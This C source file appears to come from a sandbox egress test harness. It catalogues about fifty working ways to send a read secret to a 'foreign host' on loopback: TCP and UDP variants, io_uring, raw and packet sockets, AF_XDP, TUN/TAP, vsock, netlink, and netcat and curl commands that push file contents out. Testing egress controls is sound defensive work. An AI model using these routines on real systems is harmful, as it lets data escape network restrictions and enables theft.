// SPDX-License-Identifier: GPL-2.0
/* Ways off the host, for a process that has read. The foreign host's address is on the loopback
 * device of this network namespace, where every frame is heard; what has no wire has somebody
 * who listens. */
#include "ring.h"
#include "technique.h"
#include "wire.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/if_tun.h>
#include <linux/if_xdp.h>
#include <linux/netlink.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif

static int listener, open_socket;

static struct sockaddr_in foreign = { .sin_family = AF_INET };
static struct sockaddr_in6 foreign6 = { .sin6_family = AF_INET6 };

static void addresses(void)
{
	foreign.sin_port = foreign6.sin6_port = htons(PORT);
	inet_pton(AF_INET, FOREIGN4, &foreign.sin_addr);
	inet_pton(AF_INET6, FOREIGN6, &foreign6.sin6_addr);
}

#define TO4 (struct sockaddr *)&foreign, sizeof(foreign)
#define TO6 (struct sockaddr *)&foreign6, sizeof(foreign6)

static int listen_as(int family, int type, int protocol)
{
	int on = 1;

	addresses();
	listener = TRY(socket(family, type, protocol));
	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (family == AF_INET6)
		TRY(bind(listener, TO6));
	else
		TRY(bind(listener, TO4));
	if (type == SOCK_STREAM || type == SOCK_SEQPACKET) {
		setsockopt(listener, IPPROTO_TCP, TCP_FASTOPEN, &on, sizeof(on));
		TRY(listen(listener, 4));
	}
	return 0;
}

static int listen_tcp(struct arena *a) { (void)a; return listen_as(AF_INET, SOCK_STREAM, 0); }
static int listen_tcp6(struct arena *a) { (void)a; return listen_as(AF_INET6, SOCK_STREAM, 0); }
static int listen_udp(struct arena *a) { (void)a; return listen_as(AF_INET, SOCK_DGRAM, 0); }
static int listen_udp6(struct arena *a) { (void)a; return listen_as(AF_INET6, SOCK_DGRAM, 0); }

static int listen_sctp(struct arena *a)
{
	(void)a;
	return listen_as(AF_INET, SOCK_STREAM, IPPROTO_SCTP);
}

static int listen_sctp_many(struct arena *a)
{
	(void)a;
	return listen_as(AF_INET, SOCK_SEQPACKET, IPPROTO_SCTP);
}

static int listen_mptcp(struct arena *a)
{
	(void)a;
	return listen_as(AF_INET, SOCK_STREAM, IPPROTO_MPTCP);
}

/* A connection that is there before anything is read. */
static int connect_before(struct arena *a)
{
	PASS_ON(listen_tcp(a));
	open_socket = TRY(socket(AF_INET, SOCK_STREAM, 0));
	TRY(connect(open_socket, TO4));
	return 0;
}

static int tcp(void)
{
	int fd = TRY(socket(AF_INET, SOCK_STREAM, 0));

	TRY(connect(fd, TO4));
	return fd;
}

static int udp(void) { return TRY(socket(AF_INET, SOCK_DGRAM, 0)); }

/* ---- calls, on TCP ----------------------------------------------------------------- */

#define SEND(label, fd_, expression) \
	static int label(struct arena *a, const char *data, size_t size) \
	{ \
		int fd = PASS_ON(fd_); \
		(void)a; \
		TRY(expression); \
		return 0; \
	}

static struct iovec vector[2];

static struct iovec *halves(const char *data, size_t size)
{
	vector[0] = (struct iovec){ (char *)data, 5 };
	vector[1] = (struct iovec){ (char *)data + 5, size - 5 };
	return vector;
}

static struct msghdr *message(const char *data, size_t size, void *name, size_t length)
{
	static struct msghdr m;

	m = (struct msghdr){ .msg_iov = halves(data, size), .msg_iovlen = 2, .msg_name = name,
			     .msg_namelen = length };
	return &m;
}

SEND(push_write, tcp(), write(fd, data, size))
SEND(push_send, tcp(), send(fd, data, size, 0))
SEND(push_writev, tcp(), writev(fd, halves(data, size), 2))
SEND(push_sendmsg, tcp(), sendmsg(fd, message(data, size, NULL, 0), 0))
SEND(push_urgent, tcp(), send(fd, data, size, MSG_OOB))
SEND(push_more, tcp(), send(fd, data, size, MSG_MORE))
SEND(push_open, open_socket, write(fd, data, size))
SEND(push_fast_open, TRY(socket(AF_INET, SOCK_STREAM, 0)), sendto(fd, data, size, MSG_FASTOPEN, TO4))
SEND(push_mptcp, TRY(socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP)),
     connect(fd, TO4) ?: write(fd, data, size))
SEND(push_tcp6, TRY(socket(AF_INET6, SOCK_STREAM, 0)), connect(fd, TO6) ?: write(fd, data, size))

static int push_zerocopy(struct arena *a, const char *data, size_t size)
{
	int fd = PASS_ON(tcp()), on = 1;

	(void)a;
	TRY(setsockopt(fd, SOL_SOCKET, SO_ZEROCOPY, &on, sizeof(on)));
	TRY(send(fd, data, size, MSG_ZEROCOPY));
	return 0;
}

static int push_fast_open_connect(struct arena *a, const char *data, size_t size)
{
	int fd = TRY(socket(AF_INET, SOCK_STREAM, 0)), on = 1;

	(void)a;
	TRY(setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on)));
	TRY(connect(fd, TO4));
	TRY(write(fd, data, size));
	return 0;
}

static int push_sendfile(struct arena *a, const char *data, size_t size)
{
	int fd = PASS_ON(tcp());

	(void)data;
	TRY(sendfile(fd, TRY(open(a->file, O_RDONLY)), NULL, size));
	return 0;
}

static int push_splice(struct arena *a, const char *data, size_t size)
{
	int fd = PASS_ON(tcp()), p[2];

	(void)data;
	TRY(pipe(p));
	TRY(splice(TRY(open(a->file, O_RDONLY)), NULL, p[1], NULL, size, 0));
	TRY(splice(p[0], NULL, fd, NULL, size, 0));
	return 0;
}

static int push_vmsplice(struct arena *a, const char *data, size_t size)
{
	int fd = PASS_ON(tcp()), p[2];

	(void)a;
	TRY(pipe(p));
	TRY(vmsplice(p[1], halves(data, size), 2, 0));
	TRY(splice(p[0], NULL, fd, NULL, size, 0));
	return 0;
}

/* Who has read is called, and answers. */
static int push_answer(struct arena *a, const char *data, size_t size)
{
	struct sockaddr_in own = foreign;
	int s = TRY(socket(AF_INET, SOCK_STREAM, 0)), on = 1, caller, fd;

	(void)a;
	own.sin_port = htons(PORT + 1);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	TRY(bind(s, (struct sockaddr *)&own, sizeof(own)));
	TRY(listen(s, 1));
	caller = TRY(socket(AF_INET, SOCK_STREAM, 0));
	TRY(connect(caller, (struct sockaddr *)&own, sizeof(own)));
	fd = TRY(accept(s, NULL, NULL));
	TRY(write(fd, data, size));
	return 0;
}

static int push_of_child(struct arena *a, const char *data, size_t size)
{
	pid_t pid = fork();

	if (!pid)
		_exit(-push_write(a, data, size));
	return ended(pid);
}

struct job {
	struct arena *a;
	const char *data;
	size_t size;
	int r;
};

static void *run_job(void *arg)
{
	struct job *j = arg;

	j->r = push_write(j->a, j->data, j->size);
	return NULL;
}

static int push_of_thread(struct arena *a, const char *data, size_t size)
{
	struct job j = { a, data, size, 0 };
	pthread_t thread;

	pthread_create(&thread, NULL, run_job, &j);
	pthread_join(thread, NULL);
	return j.r;
}

static int exec_netcat(struct arena *a, const char *file)
{
	char command[300];

	(void)a;
	snprintf(command, sizeof(command), "exec nc -w 1 -N %s %d <%s", FOREIGN4, PORT, file);
	return system(command) ? -EACCES : 0;
}

static int push_netcat(struct arena *a, const char *data, size_t size)
{
	(void)data;
	(void)size;
	return exec_netcat(a, a->file);
}

static int push_curl(struct arena *a, const char *data, size_t size)
{
	char command[400];

	(void)data;
	(void)size;
	snprintf(command, sizeof(command), "exec timeout 9 curl -s -m 4 --data-binary @%s http://%s:%d/", a->file,
		 FOREIGN4, PORT);
	/* Nobody answers; whether it has arrived is seen on the wire. */
	return system(command) == 28 << 8 ? 0 : -EACCES;
}

/* ---- io_uring -------------------------------------------------------------------------- */

#define URING(label, fd_, op, addr, len, more_) \
	static int label(struct arena *a, const char *data, size_t size) \
	{ \
		int fd = PASS_ON(fd_); \
		struct io_uring_sqe *e; \
		struct ring r; \
\
		(void)a; \
		PASS_ON(ring_new(&r, 0)); \
		e = ring_next(&r, op, fd, addr, len); \
		more_; \
		return ring_run(&r, 1); \
	}

URING(push_uring_send, tcp(), IORING_OP_SEND, data, size, (void)e)
URING(push_uring_worker, tcp(), IORING_OP_SEND, data, size, e->flags = IOSQE_ASYNC)
URING(push_uring_write, tcp(), IORING_OP_WRITE, data, size, (void)e)
URING(push_uring_sendmsg, udp(), IORING_OP_SENDMSG,
      message(data, size, &foreign, sizeof(foreign)), ((void)size, 1), (void)e)
URING(push_uring_zerocopy, tcp(), IORING_OP_SEND_ZC, data, size, (void)e)

static int push_uring_sqpoll(struct arena *a, const char *data, size_t size)
{
	int fd = PASS_ON(tcp());
	struct ring r;

	(void)a;
	PASS_ON(ring_new(&r, IORING_SETUP_SQPOLL));
	ring_next(&r, IORING_OP_SEND, fd, data, size);
	return ring_run(&r, 1);
}

/* A ring of somebody who has read nothing, over a connection of his. The kernel's thread sends
 * from his memory: from what both of them have. */
static struct ring ready_ring;
static char *both;

static int ring_before(struct arena *a)
{
	PASS_ON(connect_before(a));
	both = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (both == MAP_FAILED)
		return -errno;
	return ring_new(&ready_ring, IORING_SETUP_SQPOLL);
}

static int push_ready_ring(struct arena *a, const char *data, size_t size)
{
	(void)a;
	memcpy(both, data, size);
	ring_next(&ready_ring, IORING_OP_SEND, open_socket, both, size);
	return ring_run(&ready_ring, 1);
}

/* ---- datagrams ---------------------------------------------------------------------------- */

SEND(push_sendto, udp(), sendto(fd, data, size, 0, TO4))
SEND(push_udp_sendmsg, udp(), sendmsg(fd, message(data, size, &foreign, sizeof(foreign)), 0))
SEND(push_udp_connected, udp(), connect(fd, TO4) ?: write(fd, data, size))
SEND(push_udp6, TRY(socket(AF_INET6, SOCK_DGRAM, 0)), sendto(fd, data, size, 0, TO6))
SEND(push_udplite, TRY(socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE)), sendto(fd, data, size, 0, TO4))
SEND(push_sctp, TRY(socket(AF_INET, SOCK_STREAM, IPPROTO_SCTP)),
     connect(fd, TO4) ?: send(fd, data, size, 0))
SEND(push_sctp_many, TRY(socket(AF_INET, SOCK_SEQPACKET, IPPROTO_SCTP)),
     sendto(fd, data, size, 0, TO4))

static int push_sendmmsg(struct arena *a, const char *data, size_t size)
{
	struct sockaddr_in home = foreign;
	struct mmsghdr m[2] = {};
	int fd = PASS_ON(udp()), n;

	(void)a;
	/* The first goes to where nobody minds. */
	inet_pton(AF_INET, "127.0.0.1", &home.sin_addr);
	m[0].msg_hdr = *message("x     ", 6, &home, sizeof(home));
	m[1].msg_hdr = m[0].msg_hdr;
	struct iovec one = { (char *)data, size };

	m[1].msg_hdr = (struct msghdr){ .msg_iov = &one, .msg_iovlen = 1, .msg_name = &foreign,
					.msg_namelen = sizeof(foreign) };
	n = TRY(sendmmsg(fd, m, 2, 0));
	return n == 2 ? 0 : -EACCES;
}

static int push_segments(struct arena *a, const char *data, size_t size)
{
	int fd = PASS_ON(udp()), part = SECRET_LEN;

	(void)a;
	TRY(setsockopt(fd, IPPROTO_UDP, UDP_SEGMENT, &part, sizeof(part)));
	TRY(sendto(fd, data, size, 0, TO4));
	return 0;
}

static int push_corked(struct arena *a, const char *data, size_t size)
{
	int fd = PASS_ON(udp());

	(void)a;
	TRY(sendto(fd, data, size, MSG_MORE, TO4));
	TRY(sendto(fd, "x", 1, 0, TO4));
	return 0;
}

/* ---- below the protocols ---------------------------------------------------------------------- */

static uint16_t sum(const void *data, size_t size)
{
	const uint8_t *p = data;
	uint32_t s = 0;

	for (; size > 1; size -= 2, p += 2)
		s += p[0] << 8 | p[1];
	s += size ? p[0] << 8 : 0;
	s = (s & 0xffff) + (s >> 16);
	return htons(~(s + (s >> 16)));
}

/* An IPv4 packet to the foreign host; returns its length. */
static size_t packet(char *to, const char *data, size_t size)
{
	struct iphdr *ip = (struct iphdr *)to;
	struct udphdr *u = (struct udphdr *)(ip + 1);

	addresses();
	*ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 9, .protocol = IPPROTO_UDP,
			      .tot_len = htons(sizeof(*ip) + sizeof(*u) + size),
			      .saddr = htonl(0x0a140005), .daddr = foreign.sin_addr.s_addr };
	ip->check = sum(ip, sizeof(*ip));
	*u = (struct udphdr){ .source = htons(9), .dest = htons(PORT),
			      .len = htons(sizeof(*u) + size) };
	memcpy(u + 1, data, size);
	return sizeof(*ip) + sizeof(*u) + size;
}

static int push_raw(struct arena *a, const char *data, size_t size)
{
	int fd = TRY(socket(AF_INET, SOCK_RAW, IPPROTO_RAW));
	char p[256];
	size_t n = packet(p, data, size);

	(void)a;
	TRY(sendto(fd, p, n, 0, TO4));
	return 0;
}

static int push_ping_type(int type, const char *data, size_t size)
{
	int fd = TRY(socket(AF_INET, type, IPPROTO_ICMP));
	char p[256];
	struct icmphdr *h = (struct icmphdr *)p;

	addresses();
	*h = (struct icmphdr){ .type = ICMP_ECHO };
	memcpy(h + 1, data, size);
	h->checksum = sum(p, sizeof(*h) + size);
	TRY(sendto(fd, p, sizeof(*h) + size, 0, TO4));
	return 0;
}

static int push_icmp(struct arena *a, const char *data, size_t size)
{
	(void)a;
	return push_ping_type(SOCK_RAW, data, size);
}

static int push_ping(struct arena *a, const char *data, size_t size)
{
	(void)a;
	PASS_ON(write_path("/proc/sys/net/ipv4/ping_group_range", "0 2147483647", 12));
	return push_ping_type(SOCK_DGRAM, data, size);
}

static int raw_before(struct arena *a)
{
	(void)a;
	addresses();
	open_socket = TRY(socket(AF_INET, SOCK_RAW, IPPROTO_RAW));
	return 0;
}

static int push_raw_before(struct arena *a, const char *data, size_t size)
{
	char p[256];
	size_t n = packet(p, data, size);

	(void)a;
	TRY(sendto(open_socket, p, n, 0, TO4));
	return 0;
}

static struct sockaddr_ll loopback(void)
{
	return (struct sockaddr_ll){ .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
				     .sll_ifindex = if_nametoindex("lo"), .sll_halen = 6 };
}

static int packet_socket(int type)
{
	return TRY(socket(AF_PACKET, type, 0));
}

static int push_frame(struct arena *a, const char *data, size_t size)
{
	struct sockaddr_ll to = loopback();
	char p[256] = {};
	size_t n = packet(p + ETH_HLEN, data, size);

	(void)a;
	p[12] = 8;
	TRY(sendto(PASS_ON(packet_socket(SOCK_RAW)), p, ETH_HLEN + n, 0, (struct sockaddr *)&to,
		   sizeof(to)));
	return 0;
}

static int push_frame_cooked(struct arena *a, const char *data, size_t size)
{
	struct sockaddr_ll to = loopback();
	char p[256];
	size_t n = packet(p, data, size);

	(void)a;
	TRY(sendto(PASS_ON(packet_socket(SOCK_DGRAM)), p, n, 0, (struct sockaddr *)&to, sizeof(to)));
	return 0;
}

static char *slots;

static int make_packet_ring(void)
{
	struct tpacket_req req = { .tp_block_size = 4096, .tp_frame_size = 2048, .tp_block_nr = 1,
				   .tp_frame_nr = 2 };
	struct sockaddr_ll to = loopback();

	open_socket = PASS_ON(packet_socket(SOCK_DGRAM));
	TRY(setsockopt(open_socket, SOL_PACKET, PACKET_TX_RING, &req, sizeof(req)));
	TRY(bind(open_socket, (struct sockaddr *)&to, sizeof(to)));
	slots = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, open_socket, 0);
	return slots == MAP_FAILED ? -errno : 0;
}

static int use_packet_ring(const char *data, size_t size)
{
	struct tpacket_hdr *h = (struct tpacket_hdr *)slots;

	h->tp_len = packet(slots + TPACKET_HDRLEN - sizeof(struct sockaddr_ll), data, size);
	__atomic_store_n(&h->tp_status, TP_STATUS_SEND_REQUEST, __ATOMIC_RELEASE);
	TRY(send(open_socket, NULL, 0, 0));
	return 0;
}

static int packet_ring_before(struct arena *a) { (void)a; return make_packet_ring(); }

static int push_packet_ring(struct arena *a, const char *data, size_t size)
{
	(void)a;
	PASS_ON(make_packet_ring());
	return use_packet_ring(data, size);
}

static int push_packet_ring_before(struct arena *a, const char *data, size_t size)
{
	(void)a;
	return use_packet_ring(data, size);
}

/* Memory that the device sends from by itself, from the moment that it is told where. */
struct xdp {
	int fd;
	char *umem;
	struct xdp_desc *tx;
	uint32_t *producer;
};

static struct xdp xdp;

static int make_xdp(struct xdp *x)
{
	struct sockaddr_xdp to = { .sxdp_family = AF_XDP, .sxdp_flags = XDP_COPY,
				   .sxdp_ifindex = if_nametoindex("lo") };
	struct xdp_umem_reg reg = { .len = 8192, .chunk_size = 2048 };
	struct xdp_mmap_offsets off;
	socklen_t size = sizeof(off);
	int slots_ = 4, tries;
	char *ring;

	x->fd = TRY(socket(AF_XDP, SOCK_RAW, 0));
	x->umem = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	reg.addr = (unsigned long)x->umem;
	TRY(setsockopt(x->fd, SOL_XDP, XDP_UMEM_REG, &reg, sizeof(reg)));
	TRY(setsockopt(x->fd, SOL_XDP, XDP_UMEM_FILL_RING, &slots_, sizeof(slots_)));
	TRY(setsockopt(x->fd, SOL_XDP, XDP_UMEM_COMPLETION_RING, &slots_, sizeof(slots_)));
	TRY(setsockopt(x->fd, SOL_XDP, XDP_TX_RING, &slots_, sizeof(slots_)));
	TRY(getsockopt(x->fd, SOL_XDP, XDP_MMAP_OFFSETS, &off, &size));
	ring = mmap(NULL, off.tx.desc + 4 * sizeof(struct xdp_desc), PROT_READ | PROT_WRITE,
		    MAP_SHARED | MAP_POPULATE, x->fd, XDP_PGOFF_TX_RING);
	if (ring == MAP_FAILED)
		return -errno;
	x->tx = (struct xdp_desc *)(ring + off.tx.desc);
	x->producer = (uint32_t *)(ring + off.tx.producer);
	/* Who had it before lets go of it a moment after his end. */
	for (tries = 0; bind(x->fd, (struct sockaddr *)&to, sizeof(to)) < 0; tries++) {
		if (errno != EBUSY || tries == 100)
			return -errno;
		usleep(10000);
	}
	return 0;
}

static int use_xdp(struct xdp *x, const char *data, size_t size)
{
	x->tx[0].addr = 0;
	x->tx[0].len = ETH_HLEN + packet(x->umem + ETH_HLEN, data, size);
	x->umem[12] = 8;
	__atomic_store_n(x->producer, 1, __ATOMIC_RELEASE);
	TRY(sendto(x->fd, NULL, 0, MSG_DONTWAIT, NULL, 0));
	return 0;
}

static int xdp_before(struct arena *a) { (void)a; return make_xdp(&xdp); }

static int push_xdp(struct arena *a, const char *data, size_t size)
{
	(void)a;
	PASS_ON(make_xdp(&xdp));
	return use_xdp(&xdp, data, size);
}

static int push_xdp_before(struct arena *a, const char *data, size_t size)
{
	(void)a;
	return use_xdp(&xdp, data, size);
}

static int push_tunnel(const char *data, size_t size, int flags)
{
	struct ifreq r = { .ifr_flags = flags | IFF_NO_PI, .ifr_name = "evasion%d" };
	int fd = TRY(open("/dev/net/tun", O_RDWR)), s = PASS_ON(udp());
	char p[256] = {};
	size_t head = flags == IFF_TAP ? ETH_HLEN : 0;

	TRY(ioctl(fd, TUNSETIFF, &r));
	TRY(ioctl(s, SIOCGIFFLAGS, &r));
	r.ifr_flags |= IFF_UP;
	TRY(ioctl(s, SIOCSIFFLAGS, &r));
	if (head)
		p[12] = 8;
	TRY(write(fd, p, head + packet(p + head, data, size)));
	return 0;
}

static int push_tun(struct arena *a, const char *data, size_t size)
{
	(void)a;
	return push_tunnel(data, size, IFF_TUN);
}

static int push_tap(struct arena *a, const char *data, size_t size)
{
	(void)a;
	return push_tunnel(data, size, IFF_TAP);
}

/* ---- without a wire -------------------------------------------------------------------------- */

static int listen_vsock(struct arena *a)
{
	struct sockaddr_vm own = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_ANY,
				   .svm_port = PORT };

	(void)a;
	if (system("modprobe vsock_loopback 2>/dev/null"))
		return -ENODEV;
	listener = TRY(socket(AF_VSOCK, SOCK_STREAM, 0));
	TRY(bind(listener, (struct sockaddr *)&own, sizeof(own)));
	TRY(listen(listener, 1));
	return 0;
}

static int push_vsock(struct arena *a, const char *data, size_t size)
{
	struct sockaddr_vm to = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_LOCAL,
				  .svm_port = PORT };
	int fd = TRY(socket(AF_VSOCK, SOCK_STREAM, 0));

	(void)a;
	TRY(connect(fd, (struct sockaddr *)&to, sizeof(to)));
	TRY(write(fd, data, size));
	return 0;
}

static int pull_accepted(struct arena *a)
{
	fcntl(listener, F_SETFL, O_NONBLOCK);
	return loot_wait(a, TRY(accept(listener, NULL, NULL)));
}

static int listen_netlink(struct arena *a)
{
	struct sockaddr_nl own = { .nl_family = AF_NETLINK, .nl_pid = 616161 };

	(void)a;
	listener = TRY(socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK));
	TRY(bind(listener, (struct sockaddr *)&own, sizeof(own)));
	return 0;
}

static int push_netlink(struct arena *a, const char *data, size_t size)
{
	struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = 616161 };
	int fd = TRY(socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK));

	(void)a;
	TRY(sendto(fd, data, size, 0, (struct sockaddr *)&to, sizeof(to)));
	return 0;
}

static int pull_datagram(struct arena *a) { return loot_wait(a, listener); }

/* A socket that somebody else has made, and connected, is handed to who has read. */
static int passed_before(struct arena *a)
{
	int s[2];

	PASS_ON(connect_before(a));
	TRY(socketpair(AF_UNIX, SOCK_DGRAM, 0, s));
	PASS_ON(pass_fd(s[0], open_socket));
	close(open_socket);
	open_socket = s[1];
	return 0;
}

static int push_passed(struct arena *a, const char *data, size_t size)
{
	int fd = PASS_ON(take_fd(open_socket));

	(void)a;
	TRY(write(fd, data, size));
	return 0;
}

#define OUT(label, first, to) { .name = #label, .goal = GOAL_SEND, .setup = first, .push = to }
#define HEARD(label, first, to, from, more) \
	{ .name = #label, .goal = GOAL_SEND, .flags = more, .setup = first, .push = to, .pull = from }

static const struct technique list[] = {
	OUT(tcp_write, listen_tcp, push_write), OUT(tcp_send, listen_tcp, push_send),
	OUT(tcp_writev, listen_tcp, push_writev), OUT(tcp_sendmsg, listen_tcp, push_sendmsg),
	OUT(tcp_urgent, listen_tcp, push_urgent), OUT(tcp_more, listen_tcp, push_more),
	OUT(tcp_old_connection, connect_before, push_open),
	OUT(tcp_passed_connection, passed_before, push_passed),
	OUT(tcp_fast_open, listen_tcp, push_fast_open),
	OUT(tcp_fast_open_connect, listen_tcp, push_fast_open_connect),
	OUT(tcp_zerocopy, listen_tcp, push_zerocopy), OUT(tcp_sendfile, listen_tcp, push_sendfile),
	OUT(tcp_splice, listen_tcp, push_splice), OUT(tcp_vmsplice, listen_tcp, push_vmsplice),
	OUT(tcp_answer, listen_tcp, push_answer), OUT(tcp_child, listen_tcp, push_of_child),
	OUT(tcp_thread, listen_tcp, push_of_thread), OUT(tcp_ipv6, listen_tcp6, push_tcp6),
	OUT(mptcp, listen_mptcp, push_mptcp), OUT(netcat, listen_tcp, push_netcat),
	OUT(curl, listen_tcp, push_curl),
	OUT(uring_send, listen_tcp, push_uring_send), OUT(uring_worker, listen_tcp, push_uring_worker),
	OUT(uring_write, listen_tcp, push_uring_write), OUT(uring_sendmsg, listen_udp, push_uring_sendmsg),
	OUT(uring_zerocopy, listen_tcp, push_uring_zerocopy),
	OUT(uring_sqpoll, listen_tcp, push_uring_sqpoll),
	OUT(uring_sqpoll_of_other, ring_before, push_ready_ring),
	OUT(udp_sendto, listen_udp, push_sendto), OUT(udp_sendmsg, listen_udp, push_udp_sendmsg),
	OUT(udp_connected, listen_udp, push_udp_connected), OUT(udp_ipv6, listen_udp6, push_udp6),
	OUT(udp_sendmmsg, listen_udp, push_sendmmsg), OUT(udp_segments, listen_udp, push_segments),
	OUT(udp_corked, listen_udp, push_corked), OUT(udplite, listen_udp, push_udplite),
	HEARD(sctp, listen_sctp, push_sctp, NULL, ALTERS_HOST),
	HEARD(sctp_many, listen_sctp_many, push_sctp_many, NULL, ALTERS_HOST),
	OUT(raw_ip, NULL, push_raw), OUT(raw_ip_before, raw_before, push_raw_before),
	OUT(raw_icmp, NULL, push_icmp), OUT(ping_socket, NULL, push_ping),
	OUT(packet_frame, NULL, push_frame), OUT(packet_cooked, NULL, push_frame_cooked),
	OUT(packet_ring, NULL, push_packet_ring),
	OUT(packet_ring_before, packet_ring_before, push_packet_ring_before),
	OUT(xdp_socket, NULL, push_xdp), OUT(xdp_socket_before, xdp_before, push_xdp_before),
	OUT(tun_device, NULL, push_tun), OUT(tap_device, NULL, push_tap),
	HEARD(vsock, listen_vsock, push_vsock, pull_accepted, ALTERS_HOST),
	HEARD(netlink, listen_netlink, push_netlink, pull_datagram, 0),
};

FAMILY(egress, list);
